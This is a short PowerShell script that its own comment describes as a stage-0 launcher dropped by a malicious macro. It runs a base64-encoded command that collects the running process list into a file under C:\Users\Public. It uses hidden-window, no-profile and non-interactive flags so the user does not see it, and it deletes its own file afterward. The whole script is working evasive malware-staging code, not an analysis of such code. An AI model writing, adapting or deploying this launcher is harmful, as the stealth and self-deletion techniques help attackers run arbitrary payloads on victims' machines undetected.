# Stage-0 launcher dropped by the macro; keeps its own window out of sight
$enc = 'UwB0AGEAcgB0AC0AUwBsAGUAZQBwACAALQBTAGUAYwBvAG4AZABzACAAMwA7ACAARwBlAHQALQBQAHIAbwBjAGUAcwBzACAAfAAgAE8AdQB0AC0ARgBpAGwAZQAgAC0ARgBpAGwAZQBQAGEAdABoACAAQwA6AFwAVQBzAGUAcgBzAFwAUAB1AGIAbABpAGMAXABwAC4AdAB4AHQA'
$si = New-Object System.Diagnostics.ProcessStartInfo
$si.FileName = "$env:windir\System32\cmd.exe"
$si.Arguments = "/c powershell.exe -NoP -NonI -W Hidden -enc $enc"
$si.WindowStyle = [System.Diagnostics.ProcessWindowStyle]::Hidden
$si.CreateNoWindow = $true
$proc = [System.Diagnostics.Process]::Start($si)
$proc.WaitForExit()
if ($proc.ExitCode -ne 0) {
    Start-Sleep -Seconds 60
}
Remove-Item -Path $MyInvocation.MyCommand.Path -Force -ErrorAction SilentlyContinue
